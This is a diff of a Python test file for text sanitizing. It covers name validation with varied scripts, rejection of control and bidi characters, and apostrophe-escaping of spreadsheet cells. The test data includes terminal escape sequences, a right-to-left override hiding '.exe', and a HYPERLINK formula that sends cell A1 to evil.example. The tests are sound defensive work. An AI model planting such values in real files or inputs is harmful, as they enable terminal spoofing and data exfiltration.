@@ -28,9 +28,17 @@ def dangerous(ch: str, *, multiline: bool = False) -> bool:
 
 @pytest.mark.parametrize(
     "name",
-    ["阿卜杜·热合曼", "买买提·艾力", "欧阳娜娜", "Zhang San", "O'Brien-Lee", "李\u3000娜", "𠮷野家",
-     "\U00031350明",  # CJK extension H: unassigned to Python 3.11's Unicode 14 table, yet a real character
-     "\ue000芳"],  # a private-use code, as registries still write some rare characters (生僻字)
+    [
+        "阿卜杜·热合曼",
+        "买买提·艾力",
+        "欧阳娜娜",
+        "Zhang San",
+        "O'Brien-Lee",
+        "李\u3000娜",
+        "𠮷野家",
+        "\U00031350明",  # CJK extension H: unassigned to Python 3.11's Unicode 14 table, yet a real character
+        "\ue000芳",
+    ],  # a private-use code, as registries still write some rare characters (生僻字)
 )
 def test_ordinary_names_are_accepted(name: str) -> None:
     assert text_problem("name", name) is None
@@ -48,8 +56,20 @@ def test_cjk_names_with_a_middle_dot_are_accepted(first: list[str], last: list[s
 
 @pytest.mark.parametrize(
     "value",
-    ["王\x1b[2J", "\x1b]0;owned\x07张", "abc\u202etxt.exe", "a\u2066b", "x\x9b2J", "tab\there", "line\nbreak",
-     "bell\x07", "del\x7f", "nul\x00", "sep\u2028", "lone\ud800"],
+    [
+        "王\x1b[2J",
+        "\x1b]0;owned\x07张",
+        "abc\u202etxt.exe",
+        "a\u2066b",
+        "x\x9b2J",
+        "tab\there",
+        "line\nbreak",
+        "bell\x07",
+        "del\x7f",
+        "nul\x00",
+        "sep\u2028",
+        "lone\ud800",
+    ],
 )
 def test_controls_and_bidi_are_refused(value: str) -> None:
     assert text_problem("name", value) == "control_character"
@@ -126,9 +146,19 @@ def test_json_for_terminal_keeps_the_value_and_shows_no_control(value: dict[str,
 
 @pytest.mark.parametrize(
     ("value", "cell"),
-    [("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
-     ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "' =1"), ("\r=1", "' =1"),
-     ("\x1b=1", "'=1"), ("  =1", "'  =1"), ("0.4.0", "0.4.0"), ("正常", "正常"), ("", "")],
+    [
+        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "' =1"),
+        ("\r=1", "' =1"),
+        ("\x1b=1", "'=1"),
+        ("  =1", "'  =1"),
+        ("0.4.0", "0.4.0"),
+        ("正常", "正常"),
+        ("", ""),
+    ],
 )
 def test_spreadsheet_cells_that_would_run_as_formulas_get_an_apostrophe(value: str, cell: str) -> None:
     assert spreadsheet_cell(value) == cell
